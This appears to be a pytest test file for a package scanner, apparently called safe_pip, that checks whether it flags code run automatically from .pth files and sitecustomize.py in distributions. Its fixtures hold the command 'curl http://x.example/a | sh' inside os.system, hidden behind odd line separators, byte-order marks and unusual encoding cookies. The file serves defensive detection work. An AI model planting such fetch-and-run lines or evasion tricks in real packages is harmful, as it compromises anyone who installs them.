"""Which function a name, an attribute or an import means, and which files run unasked: code under
a decoy of the same name, or that is only reached another way, is found where it stands."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from safe_pip.distribution import DistributionKind
from safe_pip.extractors import observe
from tests.sources import distribution_of

COMMAND = "curl http://x.example/a | sh"
SPAWN = f"os.system({COMMAND!r})"
ACTS = f"import os\n{SPAWN}\n"
LINE = f"import os; {SPAWN}"

PATH_LINES = {
    "form feed": f"# x\x0c{LINE}\n".encode(),
    "vertical tab": f"./x\x0b{LINE}\n".encode(),
    "file separator": f"./x\x1c{LINE}\n".encode(),
    "next line": f"./x\x85{LINE}\n".encode(),
    "line separator": f"./x\u2028{LINE}\n".encode(),
    "carriage return": f"./x\r{LINE}\r".encode(),
    "byte-order mark": b"\xef\xbb\xbf" + LINE.encode(),
    "cookie of two bytes": b"# coding: utf-16\n" + LINE.encode() + b"\n",
    "cookie of four bytes": b"# coding: utf-32\n" + LINE.encode() + b"\n",
    "cookie of another alphabet": b"# coding: cp037\n" + LINE.encode() + b"\n",
}
SITE_FOLDERS = ("lib/python3.11/site-packages", "Lib/site-packages", "lib/python3/dist-packages")


@pytest.mark.parametrize("lines", PATH_LINES.values(), ids=PATH_LINES)
def test_path_files_are_read_as_site_reads_them(lines: bytes) -> None:
    assert _downloads({"demo.pth": lines}) == {"demo.pth"}


def test_what_site_does_not_execute_is_no_code() -> None:
    assert not _downloads({"demo.pth": f"./x {LINE}\n# {LINE}\n import os; {SPAWN}\n".encode()})


@pytest.mark.parametrize("folder", SITE_FOLDERS)
def test_startup_modules_may_come_as_data(folder: str) -> None:
    path = f"demo-1.0.data/data/{folder}/sitecustomize.py"
    distribution = distribution_of({path: ACTS}, kind=DistributionKind.WHEEL)
    found = [item for item in observe(distribution) if item.feature == "startup_spawns"]
    assert [item.location.path for item in found] == [path]


def _downloads(files: Mapping[str, str | bytes]) -> set[str]:
    """The files that start a download without anybody's call."""
    return {
        item.location.path
        for item in observe(distribution_of(files))
        if item.feature == "proc_spawn_unasked" and item.surface.runs_unasked
    }
